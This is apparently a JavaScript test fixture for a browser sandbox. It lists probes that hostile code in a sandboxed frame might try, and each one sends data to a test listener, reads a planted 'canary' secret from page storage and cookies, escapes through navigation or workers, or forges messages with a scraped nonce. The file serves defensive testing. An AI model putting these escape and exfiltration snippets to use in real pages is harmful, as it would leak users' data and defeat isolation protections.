/**
 * What a hostile program tries, one entry a way out. `code` is the body of an async function; what it returns, it has
 * got hold of. It knows
 *
 *   SERVER  an address of a listener of ours, where every request is a leak
 *   RAW     host and port of one that hears TCP and UDP
 *   BOOK    the page's own address
 *   BLOB    the address of a blob of the page
 *   MARK    a word that stands for this entry, for what the page would hear or show
 *   browser Blob, URL and so on as the browser has them, where the runtime has its own under that name
 *
 * The page keeps a secret under the name "canary" in each of its stores.
 *
 * `control` is where the same program succeeds once the sandbox is off: in the frame's worker, or in the frame's own
 * thread, where there is a document. `onDisk` says why it does not even then when the book lies on the disk. `blocks`: now
 * and then Firefox does not come back from it, and whoever tries it does nothing more.
 */

/** @typedef {{ name: string, code: string, control: "worker" | "thread", onDisk?: string, blocks?: true }} Probe */

/** @type {Probe[]} */
export const PROBES = [
  // ---- Requests ----
  { name: "fetch", control: "worker", code: "await fetch(SERVER);" },
  { name: "fetch that asks for no answer", control: "worker", code: "await fetch(SERVER, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true });" },
  { name: "fetch of the page", control: "worker", code: "return (await fetch(BOOK)).text();", onDisk: "files are no addresses to fetch from" },
  { name: "fetch of the page's blob", control: "thread", code: "return (await fetch(BLOB)).text();" },
  { name: "XMLHttpRequest", control: "worker", code: "const request = new XMLHttpRequest(); request.open('GET', SERVER); request.send();" },
  { name: "XMLHttpRequest that waits", control: "worker", code: "const request = new XMLHttpRequest(); request.open('GET', SERVER, false); request.send();" },
  { name: "WebSocket", control: "worker", code: "new WebSocket(SERVER.replace('http', 'ws'));" },
  { name: "EventSource", control: "worker", code: "new EventSource(SERVER);" },
  { name: "WebTransport", control: "worker", code: "await new WebTransport('https://' + RAW + '/').ready;" },
  { name: "sendBeacon", control: "thread", code: "navigator.sendBeacon(SERVER, 'x');" },
  { name: "importScripts", control: "worker", code: "importScripts(SERVER);" },
  // An import() that can be read as one is the runtime's: it never asks the browser.
  { name: "import() in a function that is made of text", control: "worker", code: "await Function('address', 'return import(address)')(SERVER);" },
  { name: "import() in an indirect eval", control: "worker", code: "await (0, eval)('(address) => import(address)')(SERVER);" },
  { name: "a font", control: "worker", code: "await new FontFace('f', `url(${SERVER})`).load();" },
  { name: "an image", control: "thread", code: "new Image().src = SERVER;" },
  ...[
    ["script", "src"],
    ["iframe", "src"],
    ["video", "src"],
    ["object", "data"],
    ["embed", "src"],
  ].map(([element, attribute]) => (/** @type {Probe} */ ({ name: `<${element}>`, control: "thread", code: `
      const element = document.createElement('${element}');
      element.setAttribute('${attribute}', SERVER);
      document.documentElement.append(element);` }))),
  ...["stylesheet", "prefetch", "preload", "modulepreload"].map((rel) => (/** @type {Probe} */ ({ name: `<link rel="${rel}">`, control: "thread", code: `
      document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', href: SERVER, as: 'script' }));` }))),
  { name: "RTCPeerConnection", control: "thread", code: `
      const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + RAW }] });
      connection.createDataChannel('x');
      await connection.setLocalDescription(await connection.createOffer());` },

  // ---- Workers of its own ----
  { name: "a worker made of a blob", control: "worker", blocks: true, code: "new Worker(browser.URL.createObjectURL(new browser.Blob([`fetch(${JSON.stringify(SERVER)})`])));" },
  { name: "a worker made of a data address", control: "worker", blocks: true, code: "new Worker(`data:text/javascript,fetch(${JSON.stringify(SERVER)})`);" },
  { name: "a shared worker", control: "thread", code: "new SharedWorker(`data:text/javascript,fetch(${JSON.stringify(SERVER)})`);" },
  { name: "a service worker", control: "thread", code: "await top.navigator.serviceWorker.register(new browser.URL(MARK, BOOK).href);", onDisk: "the browser has them for http only" },

  // ---- Away from the page ----
  { name: "the page is navigated", control: "thread", code: "top.location.href = SERVER;" },
  { name: "the page is replaced", control: "thread", code: "top.location.replace(SERVER);" },
  { name: "the frame is navigated", control: "thread", code: "location.href = SERVER;" },
  { name: "a refresh by <meta>", control: "thread", code: `
      document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + SERVER }));` },
  { name: "an empty popup", control: "thread", code: "window.open('about:blank');" },
  { name: "a popup", control: "thread", code: "window.open(SERVER);" },
  ...["_top", "_blank", "_self"].flatMap((target) => /** @type {Probe[]} */ ([
    { name: `a link to ${target}`, control: "thread", code: `
      const link = Object.assign(document.createElement('a'), { href: SERVER, target: '${target}' });
      document.documentElement.append(link);
      link.click();` },
    { name: `a form to ${target}`, control: "thread", code: `
      const form = Object.assign(document.createElement('form'), { action: SERVER, target: '${target}', method: 'post' });
      document.documentElement.append(form);
      form.submit();` },
  ])),
  { name: "a link that tells another address", control: "thread", code: `
      const link = Object.assign(document.createElement('a'), { href: '#', ping: SERVER });
      document.documentElement.append(link);
      link.click();` },
  { name: "a download", control: "thread", code: "Object.assign(document.createElement('a'), { href: 'data:text/plain,x', download: MARK }).click();" },
  { name: "an entry of the page's history", control: "thread", code: "top.history.pushState(null, '', '#' + MARK);" },
  { name: "a dialog", control: "thread", code: "alert(MARK);" },

  // ---- What the page has ----
  { name: "the page's document", control: "thread", code: "top.document.documentElement.dataset.mark = MARK;" },
  { name: "the page's variables", control: "thread", code: "return top.canary;" },
  { name: "localStorage", control: "thread", code: "return localStorage.getItem('canary');" },
  { name: "sessionStorage", control: "thread", code: "return sessionStorage.getItem('canary');" },
  { name: "cookies", control: "thread", code: "return document.cookie;", onDisk: "pages from the disk have none" },
  { name: "cookieStore", control: "thread", code: "return (await cookieStore.getAll()).map(({ value }) => value).join();", onDisk: "pages from the disk have none" },
  { name: "IndexedDB", control: "worker", code: `
      const database = await new Promise((resolve, reject) => Object.assign(indexedDB.open('canary'), { onsuccess() { resolve(this.result); }, onerror: reject }));
      const all = database.transaction('canary').objectStore('canary').getAll();
      return new Promise((resolve, reject) => Object.assign(all, { onsuccess() { resolve(this.result.join()); }, onerror: reject }));` },
  { name: "caches", control: "worker", code: "return (await (await caches.open('canary')).match('http://canary.invalid/')).text();" },
  { name: "the page's own file system", control: "worker", code: `
      const file = await (await navigator.storage.getDirectory()).getFileHandle('canary');
      return (await file.getFile()).text();`, onDisk: "the browser has it for http only" },
  { name: "locks", control: "worker", code: "return JSON.stringify(await navigator.locks.query());" },
  { name: "BroadcastChannel", control: "worker", code: "new BroadcastChannel('canary').postMessage(MARK);" },

  // ---- In the sandbox's name ----
  { name: "a message to the page", control: "thread", code: "top.postMessage({ type: 'worker-failed', mark: MARK }, '*');" },
  { name: "a message with the frame's nonce", control: "thread", code: `
      const [nonce] = /[0-9a-f]{32}/.exec(parent.document.documentElement.innerHTML);
      top.postMessage({ type: 'worker-failed', nonce, mark: MARK }, '*');` },
];
